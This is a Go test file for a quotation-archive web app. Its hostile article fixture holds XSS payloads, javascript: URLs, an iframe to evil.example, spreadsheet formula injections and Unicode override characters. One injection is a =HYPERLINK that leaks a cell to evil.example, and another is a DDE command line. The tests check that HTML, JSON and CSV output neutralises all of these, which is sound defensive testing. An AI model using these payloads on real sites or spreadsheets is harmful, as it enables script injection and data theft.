package page_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/verbatim-record/verbatim"
	"github.com/verbatim-record/verbatim/export"
	"github.com/verbatim-record/verbatim/store"
)

// attack is an article that means harm to whoever looks at it.
var attack = verbatim.Document{
	Meta: verbatim.Meta{
		URL: "javascript:alert(document.domain)//https://evil.example/", Outlet: `=HYPERLINK("https://evil.example/?"&A1,"Gazette")`,
		Title: "<script>alert(1)</script><img src=x onerror=alert(2)> \u202egnp.exe", Byline: `"><svg onload=alert(3)>`, Published: `2025-02-13"><script>`,
	},
	Text: "<script>alert(4)</script> Prime Minister Eve \"<b>\" O'Hara said: \"We will <img src=x onerror=alert(5)> win\u202e, and {{.CSRF}} </span></p><style>*{display:none}</style>.\"\n\n" +
		"\"onmouseover=alert(6) x=\" said Eve O'Hara, adding that \u2066'javascript:alert(7)' \u0000\u0007\u001b[31m was no link.\n\n" +
		"Eve O'Hara will meet <iframe src=//evil.example> Bob Marsh on Friday, Eve O'Hara told reporters.\n\n" +
		"\"" + strings.Repeat("w", 300_000) + "\" said Eve O'Hara.\n\n=cmd|' /C calc'!A0 said Bob Marsh.\n",
}

// ours are the elements that templates have.
var ours = map[string]bool{}

func init() {
	for name := range strings.FieldsSeq(`html head meta title link script body a header nav form label input main footer p kbd h1 h2 h3 section article aside
		div span ul ol li dl dt dd small b strong bdi button details summary pre code mark blockquote time table caption thead tbody tr th td sup ins del br svg g rect circle
		line path text tspan desc select option textarea fieldset legend datalist figure figcaption hr noscript polyline title output em abbr defs pattern`) {
		ours[name] = true
	}
}

// harmless fails for what a page must not have.
func harmless(t *testing.T, name string, page []byte) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !ours[n.Data] {
			t.Errorf("%s: an element <%s> that no template has", name, n.Data)
		}
		if n.Data == "script" && (n.FirstChild != nil || !hasLocal(n)) {
			t.Errorf("%s: a script of its own", name)
		}
		for _, a := range n.Attr {
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
				t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
			case a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction":
				if u, err := url.Parse(v); err != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" {
					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
				}
			}
		}
	}
	for _, r := range "\u202e\u2066\x00\x07\x1b" {
		if bytes.ContainsRune(page, r) {
			t.Errorf("%s: has the character %U as it is", name, r)
		}
	}
	if len(page) > 100<<10 {
		t.Errorf("%s: %d bytes, and a page has at most 100 KiB", name, len(page))
	}
}

func hasLocal(n *html.Node) bool {
	for _, a := range n.Attr {
		if a.Key == "src" && strings.HasPrefix(a.Val, "/static/") {
			return true
		}
	}
	return false
}

func TestHostileArticle(t *testing.T) {
	s := recordOf(t, attack)
	srv := served(t, s)
	for _, f := range export.Formats(export.Settings{}) {
		for _, path := range []string{"/export/statements?q=win", "/export/events?q=", "/articles/" + screens(t, s)[6][len("/articles/"):] + "/export?"} {
			code, body := get(t, srv.URL+path+"&format="+f.Name)
			if code >= 500 || strings.ContainsAny(body, "\u202e") && f.MediaType == "text/html" {
				t.Errorf("%s as %s: status %d", path, f.Name, code)
			}
		}
	}
	paths := append(screens(t, s), "/search?q="+url.QueryEscape(`"><script>alert(8)</script>`), "/search?q="+url.QueryEscape("speaker:\"<b>\u202e"),
		"/search?sort=%3Cscript%3E&skip=-5&q=win", "/statements/"+url.PathEscape("<script>"), "/complete?q=speaker:%25_%5C")
	for _, path := range paths {
		for _, form := range []string{"", ".json", ".csv"} {
			addr, query, _ := strings.Cut(path, "?")
			if strings.HasPrefix(path, "/complete") && form != "" {
				continue
			}
			res, err := http.Get(srv.URL + addr + form + "?" + query)
			if err != nil {
				t.Fatal(err)
			}
			body, err := io.ReadAll(res.Body)
			res.Body.Close()
			if err != nil {
				t.Fatal(err)
			}
			name := addr + form + "?" + query
			if res.StatusCode >= 500 {
				t.Errorf("%s: status %d", name, res.StatusCode)
			}
			switch kind := res.Header.Get("Content-Type"); {
			case strings.HasPrefix(kind, "text/html"):
				harmless(t, name, body)
			case strings.Contains(kind, "json"):
				if !json.Valid(body) {
					t.Errorf("%s: no JSON: %.200s", name, body)
				}
				if bytes.Contains(body, []byte("<script")) {
					t.Errorf("%s: markup stands in JSON as it is", name)
				}
			case strings.HasPrefix(kind, "text/csv"):
				for line := range bytes.Lines(body) {
					for _, cell := range bytes.Split(line, []byte(",")) {
						if c := bytes.Trim(cell, `"`); len(c) > 1 && bytes.ContainsAny(c[:1], "=+@") {
							t.Errorf("%s: a cell that a spreadsheet computes: %.80q", name, cell)
						}
					}
				}
			default:
				t.Errorf("%s: %s", name, kind)
			}
		}
	}
}

// TestHostileArticleInABrowser runs none of it.
func TestHostileArticleInABrowser(t *testing.T) {
	b := opened(t)
	s := recordOf(t, attack)
	srv := served(t, s)
	for _, path := range screens(t, s) {
		visit(t, b, srv, path)
	}
}

// An article that is all statements is shown in parts of a bounded size, and
// every statement is in one of them.
func TestDenseArticle(t *testing.T) {
	dense := verbatim.Document{
		Meta: verbatim.Meta{URL: "https://dense.example/", Outlet: "Dense", Title: "Dense", Published: "2025-02-13"},
		Text: strings.Repeat("\"No,\" said Ann Pell. \"Yes,\" said Bo Marsh. ", 700) + "\n",
	}
	s := recordOf(t, dense)
	srv := served(t, s)
	hits, err := s.Search(t.Context(), store.Query{Limit: 1})
	if err != nil || len(hits) != 1 {
		t.Fatal(err)
	}
	n := len(hits[0].Document.Statements)
	if n < 500 {
		t.Fatalf("%d statements", n)
	}
	seen := 0
	for part := 0; ; part++ {
		code, body := get(t, srv.URL+"/articles/"+hits[0].DocumentID+"?part="+strconv.Itoa(part))
		if code != 200 {
			t.Fatalf("part %d: status %d", part, code)
		}
		if len(body) > 100<<10 {
			t.Errorf("part %d: %d bytes", part, len(body))
		}
		now := strings.Count(body, "<sup")
		if seen += now; seen >= n || now == 0 || part > n {
			break
		}
	}
	if seen != n {
		t.Errorf("%d of %d statements are shown", seen, n)
	}
	if _, body := get(t, srv.URL+"/articles/"+hits[0].DocumentID+"?part=-9999999&at=500"); !strings.Contains(body, `id="s500"`) {
		t.Error("the part of a statement is not found")
	}
	for _, query := range []string{"part=-99999999", "at=-1", "at=99999999", "at=x", "part=99999999"} {
		if code, _ := get(t, srv.URL+"/articles/"+hits[0].DocumentID+"?"+query); code != 200 {
			t.Errorf("%s: status %d", query, code)
		}
	}
}
